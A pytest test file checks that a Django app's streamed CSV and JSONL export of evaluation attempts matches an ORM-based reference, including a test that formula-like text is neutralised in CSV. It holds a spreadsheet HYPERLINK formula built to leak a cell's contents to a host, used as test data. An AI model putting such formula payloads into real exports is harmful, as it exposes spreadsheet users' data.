"""The streamed attempt export (raw cursor + per-column cells) writes exactly what the ORM values
would become through csv.writer / json: compared with an independent reference built on
.values_list() for tricky rows, on whichever database the run uses (SQLite or PostgreSQL)."""

from __future__ import annotations

import csv
import io
import json
import zoneinfo
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from django.db import connection, transaction
from django.db.models import JSONField, Value
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from apps.attempts.models import Attempt
from apps.attempts.selectors.exports import EXPORT_COLUMNS
from apps.exports import cells, stream
from apps.suites.models import Domain, Task

pytestmark = pytest.mark.django_db

UTC = UTC
PLUS_TWO = timezone(timedelta(hours=2))
JSON_NULL = Value(None, JSONField())  # a JSON null, not SQL NULL (the columns are NOT NULL)


def reference_export(queryset, *, fmt: str, with_result: bool = False) -> str:
    """The export as the ORM sees the rows: values_list() values, written by csv.writer or json."""
    names = [name for name, _ in EXPORT_COLUMNS] + (["result"] if with_result else [])
    paths = [path for _, path in EXPORT_COLUMNS] + (["result"] if with_result else [])
    rows = queryset.order_by("campaign_id", "task_id", "index").values_list(*paths)
    out = io.StringIO()
    if fmt == "csv":
        writer = csv.writer(out)
        writer.writerow(names)
        for row in rows:
            writer.writerow([_reference_cell(name, value) for name, value in zip(names, row)])
    else:
        for row in rows:
            out.write(
                json.dumps(dict(zip(names, row)), separators=(",", ":"), default=_reference_json) + "\n"
            )
    return out.getvalue()


def _reference_cell(name: str, value):
    if value is None:
        return None
    if name in ("categories", "result", "provider"):
        return json.dumps(value, sort_keys=True, separators=(",", ":"))
    if isinstance(value, datetime):
        return value.isoformat()
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value  # a spreadsheet would run it as a formula
    return format(value, "f") if isinstance(value, Decimal) else value


def _reference_json(value):
    return float(value) if isinstance(value, Decimal) else value.isoformat()


def export(queryset, *, fmt: str, with_result: bool = False) -> str:
    return "".join(stream.attempt_export(queryset, fmt=fmt, with_result=with_result))


@pytest.fixture
def task_factory(make_campaign):
    """make(task_id, domain) -> Task in the campaign's suite; returns (campaign, make)."""
    campaign = make_campaign("sim:careless", tasks=1, n=1)
    Attempt.objects.filter(campaign=campaign).delete()

    def make(task_id: str, domain: str = "retail") -> Task:
        domain_row, _ = Domain.objects.get_or_create(
            suite=campaign.suite, name=domain, defaults={"title": domain}
        )
        return Task.objects.create(
            suite=campaign.suite, domain=domain_row, task_id=task_id, content_hash="0" * 64, spec={}
        )

    return campaign, make


@pytest.fixture
def tricky_campaign(task_factory):
    """Attempts with NULLs, unicode, CSV-special text, awkward decimals and floats, aware datetimes, JSON."""
    campaign, make_task = task_factory
    plain, quoted, accented = (
        make_task("retail/plain"),
        make_task('retail/a,"b"\nc', "zz-weird"),
        make_task("retail/café_日本_🚀", "ünïcode"),
    )
    rows = [
        {
            "task": plain,
            "index": 0,
            "agent_cost": Decimal("0.01234"),
            "eval_cost": None,
            "categories": [],
            "started_at": None,
            "finished_at": None,
            "result": {},
        },
        {
            "task": plain,
            "index": 1,
            "agent_cost": Decimal("0"),
            "eval_cost": Decimal("2"),
            "categories": ["wrong_value", "extra_write"],
            "started_at": datetime(2024, 5, 1, 12, 30, 45, 123456, tzinfo=UTC),
            "finished_at": datetime(2024, 5, 1, 14, 0, tzinfo=PLUS_TWO),
            "result": {"b": [1, 2.5, None], "a": {"z": "é", "y": True}},
            "duration_ms": 0.1 + 0.2,
            "termination": "x,y",
            "task_hash": 'h"1\r\n',
            "provider": [{"model": 'gpt-x, "v2"', "system_fingerprint": "fp_é", "headers": {}, "calls": 3}],
        },
        {
            "task": quoted,
            "index": 0,
            "agent_cost": Decimal("0.00000012"),
            "eval_cost": Decimal("123456.12345678"),
            "categories": ["naïve", 'a"b'],
            "started_at": datetime(1999, 12, 31, 23, 59, 59, tzinfo=UTC),
            "finished_at": datetime(2000, 1, 1, 0, 0, 0, 1, tzinfo=UTC),
            "result": {"transcript": {"messages": [{"role": "user", "content": 'line1\nline2, "quoted" ☃'}]}},
            "duration_ms": float("inf"),
            "termination": "",
            "verdict": "",
        },
        {
            "task": accented,
            "index": 0,
            "agent_cost": Decimal("999999.99999999"),
            "eval_cost": Decimal("-0.5"),
            "categories": JSON_NULL,
            "started_at": datetime(2024, 1, 1, tzinfo=UTC),
            "finished_at": None,
            "result": JSON_NULL,
            "duration_ms": -1e20,
            "clean_looking": True,
            "input_tokens": 2**62,
            "status": "infra_error",
        },
    ]
    defaults = {
        "campaign": campaign,
        "status": "done",
        "verdict": "fail",
        "termination": "agent_done",
        "duration_ms": 320.5,
    }
    Attempt.objects.bulk_create(Attempt(**{**defaults, **row}) for row in rows)
    return campaign


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("with_result", [False, True])
def test_export_equals_the_reference_for_tricky_rows(tricky_campaign, fmt, with_result):
    attempts = Attempt.objects.filter(campaign=tricky_campaign)

    assert export(attempts, fmt=fmt, with_result=with_result) == reference_export(
        attempts, fmt=fmt, with_result=with_result
    )


def test_text_that_starts_like_a_formula_is_inert_in_csv_and_unchanged_in_jsonl(task_factory):
    campaign, make_task = task_factory
    formula = make_task('=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")', "+domain")
    Attempt.objects.create(
        campaign=campaign,
        task=formula,
        index=0,
        status="done",
        agent_cost=Decimal("0"),
        eval_cost=Decimal("0"),
        categories=["=1+1"],
        termination="@SUM(A1)",
        task_hash="\tTAB",
        verdict="-2+3",
        duration_ms=1.0,
    )
    attempts = Attempt.objects.filter(campaign=campaign)
    assert export(attempts, fmt="csv") == reference_export(attempts, fmt="csv")
    rows = list(csv.DictReader(io.StringIO(export(attempts, fmt="csv"), newline="")))
    line = json.loads(export(attempts, fmt="jsonl").splitlines()[-1])

    last = rows[-1]
    assert (last["task_id"], last["domain"], last["termination"], last["task_hash"], last["verdict"]) == (
        '\'=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")',
        "'+domain",
        "'@SUM(A1)",
        "'\tTAB",
        "'-2+3",
    )
    assert (last["categories"], last["agent_cost"], last["eval_cost"]) == (
        '["=1+1"]',
        "0.00000000",
        "0.00000000",
    )
    assert (line["task_id"], line["termination"]) == (
        '=HYPERLINK("http://127.0.0.1/?leak="&A1,"open")',
        "@SUM(A1)",
    )


def test_tricky_values_are_written_as_expected(tricky_campaign):
    attempts = Attempt.objects.filter(campaign=tricky_campaign)
    rows = list(csv.DictReader(io.StringIO(export(attempts, fmt="csv", with_result=True), newline="")))
    lines = [json.loads(line) for line in export(attempts, fmt="jsonl", with_result=True).splitlines()]
    by_key = {(row["task_id"], row["index"]): row for row in rows}
    plain_second, quoted, accented = (
        by_key[("retail/plain", "1")],
        by_key[('retail/a,"b"\nc', "0")],
        by_key[("retail/café_日本_🚀", "0")],
    )

    assert [row["agent_cost"] for row in rows] == [
        "0.01234000",
        "0.00000000",
        "0.00000012",
        "999999.99999999",
    ]
    assert (plain_second["eval_cost"], quoted["eval_cost"], accented["eval_cost"], rows[0]["eval_cost"]) == (
        "2.00000000",
        "123456.12345678",
        "-0.50000000",
        "",
    )
    assert (plain_second["started_at"], plain_second["finished_at"], quoted["finished_at"]) == (
        "2024-05-01T12:30:45.123456+00:00",
        "2024-05-01T12:00:00+00:00",
        "2000-01-01T00:00:00.000001+00:00",
    )
    assert (plain_second["categories"], quoted["categories"], accented["categories"]) == (
        '["wrong_value","extra_write"]',
        '["na\\u00efve","a\\"b"]',
        "",
    )
    assert plain_second["result"] == '{"a":{"y":true,"z":"\\u00e9"},"b":[1,2.5,null]}'
    assert (plain_second["termination"], plain_second["task_hash"], quoted["domain"]) == (
        "x,y",
        'h"1\r\n',
        "zz-weird",
    )
    assert (
        plain_second["duration_ms"],
        quoted["duration_ms"],
        accented["clean_looking"],
        accented["input_tokens"],
    ) == ("0.30000000000000004", "inf", "True", str(2**62))
    assert [line["agent_cost"] for line in lines] == [0.01234, 0.0, 1.2e-07, 999999.99999999]
    assert lines[1]["result"] == {"b": [1, 2.5, None], "a": {"z": "é", "y": True}}
    assert (lines[2]["duration_ms"], lines[3]["categories"], lines[3]["finished_at"]) == (
        float("inf"),
        None,
        None,
    )


def test_export_is_written_chunk_by_chunk(tricky_campaign, monkeypatch):
    monkeypatch.setattr(stream, "CHUNK_SIZE", 3)
    attempts = Attempt.objects.filter(campaign=tricky_campaign)

    csv_pieces = list(stream.attempt_export(attempts, fmt="csv"))
    jsonl_pieces = list(stream.attempt_export(attempts, fmt="jsonl"))

    assert [piece.count("\n") for piece in jsonl_pieces] == [3, 1]
    assert len(csv_pieces) == 3  # header, 3 rows, 1 row
    assert "".join(csv_pieces) == reference_export(attempts, fmt="csv")


def test_export_of_no_attempts_is_a_header_or_nothing(tricky_campaign):
    none = Attempt.objects.filter(campaign=tricky_campaign, index=99)

    assert (
        export(none, fmt="csv")
        == reference_export(none, fmt="csv")
        == ",".join(name for name, _ in EXPORT_COLUMNS) + "\r\n"
    )
    assert export(none, fmt="jsonl") == ""
    assert export(Attempt.objects.filter(campaign_id__in=[]), fmt="csv") == reference_export(none, fmt="csv")


def test_unknown_format_is_refused_before_any_query(django_assert_num_queries):
    with django_assert_num_queries(0), pytest.raises(ValueError, match="'xlsx'"):
        stream.attempt_export(Attempt.objects.all(), fmt="xlsx")


def test_sqlite_datetimes_in_other_stored_shapes_read_as_the_orm_reads_them(tricky_campaign):
    if connection.vendor != "sqlite":
        pytest.skip("SQLite-only: raw text written behind the ORM's back")
    attempt = Attempt.objects.filter(campaign=tricky_campaign).order_by("pk").first()
    with connection.cursor() as cursor:  # what SQLite's own Now() writes: milliseconds only
        cursor.execute(
            "UPDATE campaigns_attempt SET started_at = '2024-05-01 12:30:45.123' WHERE id = %s", [attempt.pk]
        )
    attempts = Attempt.objects.filter(campaign=tricky_campaign)

    assert export(attempts, fmt="csv") == reference_export(attempts, fmt="csv")
    assert (
        json.loads(export(attempts, fmt="jsonl").splitlines()[0])["started_at"]
        == "2024-05-01T12:30:45.123000+00:00"
    )


def test_postgresql_session_in_another_time_zone_keeps_the_orm_reading(tricky_campaign):
    if connection.vendor != "postgresql":
        pytest.skip("PostgreSQL-only: the session time zone decides which timestamptz loader is used")
    attempts = Attempt.objects.filter(campaign=tricky_campaign)
    with connection.cursor() as cursor:
        cursor.execute("SET TIME ZONE 'Asia/Kolkata'")
    try:
        assert export(attempts, fmt="csv") == reference_export(attempts, fmt="csv")
        assert export(attempts, fmt="jsonl") == reference_export(attempts, fmt="jsonl")
    finally:
        with connection.cursor() as cursor:
            cursor.execute("SET TIME ZONE %s", [connection.timezone_name])


@pytest.mark.parametrize(
    "tz", [UTC, timezone(timedelta(hours=5, minutes=30)), zoneinfo.ZoneInfo("Europe/Paris")]
)
def test_sqlite_datetime_fast_path_writes_what_the_orm_would(tz):
    orm_way = lambda value: value.replace(tzinfo=tz).isoformat()  # noqa: E731 (make_aware + isoformat)
    cell = cells._sqlite_datetime(tz, orm_way, iso_text=str)
    naive = [
        datetime(2024, 7, 1, 12, 30, 45, 123456),
        datetime(2024, 1, 1),
        datetime(1999, 12, 31, 23, 59, 59, 1),
    ]

    assert [cell(value) for value in naive] == [orm_way(value) for value in naive]


def test_repeating_values_are_remembered_only_up_to_the_limit(monkeypatch):
    monkeypatch.setattr(cells, "MEMO_LIMIT", 2)
    calls = []
    memo = cells.BoundedMemo(lambda value: calls.append(value) or f"<{value}>")

    texts = [memo[value] for value in ["a", "b", "a", "c", "c", "b"]]

    assert (texts, calls, sorted(memo)) == (
        ["<a>", "<b>", "<a>", "<c>", "<c>", "<b>"],
        ["a", "b", "c", "c"],
        ["a", "b"],
    )


TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)
DECIMALS = st.decimals(min_value=-999_999, max_value=999_999, places=8, allow_nan=False, allow_infinity=False)
AWARE = st.datetimes(
    min_value=datetime(1900, 1, 2),
    max_value=datetime(2200, 1, 1),
    timezones=st.sampled_from([UTC, PLUS_TWO, timezone(timedelta(hours=-9, minutes=-30))]),
)
JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**53), 2**53) | TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT, inner, max_size=3),
    max_leaves=6,
)
ATTEMPT = st.fixed_dictionaries(
    {
        "termination": TEXT,
        "task_hash": TEXT,
        "categories": st.lists(TEXT, max_size=3),
        "result": JSON_VALUES.filter(lambda value: value is not None),
        "agent_cost": st.none() | DECIMALS,
        "eval_cost": st.none() | DECIMALS,
        "started_at": st.none() | AWARE,
        "finished_at": st.none() | AWARE,
        "duration_ms": st.floats(allow_nan=False, width=64),
        "clean_looking": st.booleans(),
        "output_tokens": st.integers(0, 2**62),
    }
)


@settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(task_id=TEXT.filter(bool), attempts=st.lists(ATTEMPT, min_size=1, max_size=4))
def test_export_equals_the_reference_for_generated_rows(task_factory, task_id, attempts):
    campaign, make_task = task_factory
    with transaction.atomic():  # each example's rows are rolled back, whatever happens
        task = make_task(task_id, domain="generated")
        Attempt.objects.bulk_create(
            Attempt(campaign=campaign, task=task, index=i, status="done", **values)
            for i, values in enumerate(attempts)
        )
        rows = Attempt.objects.filter(campaign=campaign)

        assert export(rows, fmt="csv", with_result=True) == reference_export(
            rows, fmt="csv", with_result=True
        )
        assert export(rows, fmt="jsonl", with_result=True) == reference_export(
            rows, fmt="jsonl", with_result=True
        )
        transaction.set_rollback(True)
